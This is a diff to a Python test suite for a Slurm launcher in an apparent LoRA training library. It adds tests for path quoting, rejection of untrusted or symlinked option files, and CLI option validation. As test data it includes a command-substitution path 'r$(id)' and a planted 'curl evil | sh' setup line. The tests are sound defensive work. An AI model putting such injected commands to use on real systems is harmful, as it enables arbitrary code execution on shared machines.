@@ -23,10 +23,11 @@ from conftest import task_rows, write_jsonl
 from test_distributed import assert_same_adapters
 
 import mlora_lab as ml
+from mlora_lab import cli
 from mlora_lab import slurm as slurm_module
-from mlora_lab.launch import prepare_run
+from mlora_lab.launch import _read_slurm_options, prepare_run
 from mlora_lab.lora import read_adapter
-from mlora_lab.rundir import checkpoint, control, read_status, update_status
+from mlora_lab.rundir import RunDir, atomic_write_json, checkpoint, control, read_status, update_status
 from mlora_lab.slurm import SlurmJob, SlurmOptions, render_script
 
 # -- options and the batch script (no cluster) ------------------------------------------------------
@@ -80,13 +81,14 @@ def test_options_round_trip_and_refuse_unknown_keys():
 
 
 def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path):
-    run_dir = tmp_path / "my runs" / "r 1"
+    run_dir = tmp_path / "runs" / "r$(id)"
+    assert slurm_module.run_dir_problem(run_dir) is None
     options = SlurmOptions(partition="gpu", time="01:00:00", gpus_per_node=4, cpus_per_task=16,
                            extra=["--qos=high"], setup=["module load cuda"], python="/opt/py env/bin/python")  # fmt: skip
     script = render_script(options, run_dir, nnodes=3, nproc=4, script=run_dir / "slurm.sbatch", resume=True)
     sbatch = [line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH")]
     assert sbatch == [
-        "--job-name=mlora-r 1", "--nodes=3", "--ntasks-per-node=1", "--no-requeue",
+        "--job-name=mlora-r$(id)", "--nodes=3", "--ntasks-per-node=1", "--no-requeue",
         f"--output={run_dir}/logs/launcher.log", "--open-mode=append", f"--chdir={run_dir}",
         "--partition=gpu", "--time=01:00:00", "--cpus-per-task=16", "--gpus-per-node=4", "--qos=high",
     ]  # fmt: skip
@@ -94,7 +96,23 @@ def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path
     assert "'/opt/py env/bin/python' -m torch.distributed.run" in script
     assert '--nnodes "$SLURM_NNODES" --nproc-per-node 4' in script
     assert '--rdzv-backend c10d --rdzv-endpoint "$HEAD_ADDR:$RDZV_PORT"' in script
-    assert script.rstrip().endswith(f"-m mlora_lab.train '{run_dir}' --resume")
+    assert script.rstrip().endswith(f"-m mlora_lab.train '{run_dir}' --resume")  # quoted: $(id) stays text
+    for bad in ("my runs", "r%j", 'r"1', "r'1", "a\\b", "a\nb"):
+        assert "must not contain whitespace, quotes" in slurm_module.run_dir_problem(tmp_path / bad)
+
+
+def test_a_slurm_json_someone_else_can_write_is_not_trusted(tmp_path):
+    run = RunDir(tmp_path / "r").create()
+    atomic_write_json(run.slurm_options, SlurmOptions(setup=["echo mine"]).to_dict())
+    assert _read_slurm_options(run).setup == ["echo mine"]
+    run.slurm_options.chmod(0o666)
+    with pytest.raises(ml.SpecError, match="not a file of yours that only you can write"):
+        _read_slurm_options(run)
+    run.slurm_options.unlink()
+    (tmp_path / "planted.json").write_text(json.dumps({"setup": ["curl evil | sh"]}))
+    run.slurm_options.symlink_to(tmp_path / "planted.json")
+    with pytest.raises(ml.SpecError, match="not a file of yours"):
+        _read_slurm_options(run)
 
 
 def test_several_nodes_on_the_local_launcher_are_refused_naming_the_launchers(llama_path, tmp_path):
@@ -213,6 +231,39 @@ def test_slurm_is_asked_no_more_once_it_gave_its_verdict(slurm_run, monkeypatch)
 
     monkeypatch.setattr(slurm_module, "query", no_more)
     assert ml.attach(run.path).status == "failed"
+
+
+def test_the_dashboard_and_the_cli_say_why_a_run_is_queued(slurm_run, capsys):
+    run = slurm_run(SlurmJob(42, "PENDING", "Priority"))
+    dash = ml.Dashboard([run], interactive=False)
+    dash.refresh()
+    assert "queued" in dash.status.value and "PENDING, reason Priority" in dash.status.value
+    assert cli.main(["status", str(run.path)]) == 0
+    assert (
+        "queued: Slurm job 42 is waiting in the queue (PENDING, reason Priority)" in capsys.readouterr().out
+    )
+
+
+def test_cli_slurm_options_reach_the_launcher(llama_path, tmp_path, monkeypatch, capsys):
+    """Options given with the local launcher are refused; with Slurm they are validated like the API's."""
+    spec = ml.JobSpec(base_model=llama_path, tenants=[], serve=True, output_dir=str(tmp_path / "r"))
+    spec.to_json(tmp_path / "job.json")
+    assert cli.main(["run", str(tmp_path / "job.json"), "--partition", "gpu"]) == 2
+    assert "Slurm options were given, but the launcher is 'local'" in capsys.readouterr().err
+    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
+    argv = [
+        "run",
+        str(tmp_path / "job.json"),
+        "--launcher",
+        "slurm",
+        "--time",
+        "soon",
+        "--sbatch-arg=--nodes=3",
+    ]
+    assert cli.main(argv) == 2
+    err = capsys.readouterr().err
+    assert "slurm.time must be a Slurm time limit" in err and "node count comes from parallel.nnodes" in err
+    assert not (tmp_path / "r").exists()
 
 
 # -- a real two-node cluster ----------------------------------------------------------------------
@@ -438,3 +489,31 @@ def test_kill_9_of_one_nodes_worker_is_failed_and_a_slurm_resume_continues_exact
     resumed = ml.resume(run.path, launcher="slurm", nnodes=2)
     assert resumed.wait(300) == "finished", resumed.logs(0)
     assert_same_training(resumed, local_reference)
+
+
+@pytest.mark.slow
+def test_the_command_line_launches_follows_and_resumes_on_slurm(
+    on_cluster, llama_path, data, tmp_path, capsys
+):
+    spec = job(
+        llama_path, [ml.Tenant(name="a", data=data["reverse"], rank=4, max_steps=100_000)], tmp_path / "run"
+    )
+    spec.to_json(tmp_path / "job.json")
+    assert (
+        cli.main(["run", str(tmp_path / "job.json"), "--launcher", "slurm", "--time", "15", "--no-follow"])
+        == 0
+    )
+    run = ml.attach(capsys.readouterr().out.strip())
+    assert (
+        read_status(run.path).launcher == "slurm" and "--time=15" in (run.path / "slurm.sbatch").read_text()
+    )
+    wait_for("the first steps", lambda: run.global_step >= 2, run)
+    assert cli.main(["stop", str(run.path), "--timeout", "120"]) == 0
+    assert "stopped" in capsys.readouterr().out
+    assert cli.main(["resume", str(run.path), "--no-follow"]) == 0  # Slurm again: the run's own launcher
+    assert (
+        "--time=15" in (run.path / "slurm.sbatch").read_text()
+        and "--resume" in (run.path / "slurm.sbatch").read_text()
+    )
+    wait_for("the resumed job to run", lambda: run.status == "running", run)
+    assert run.stop(timeout=120) == "stopped"
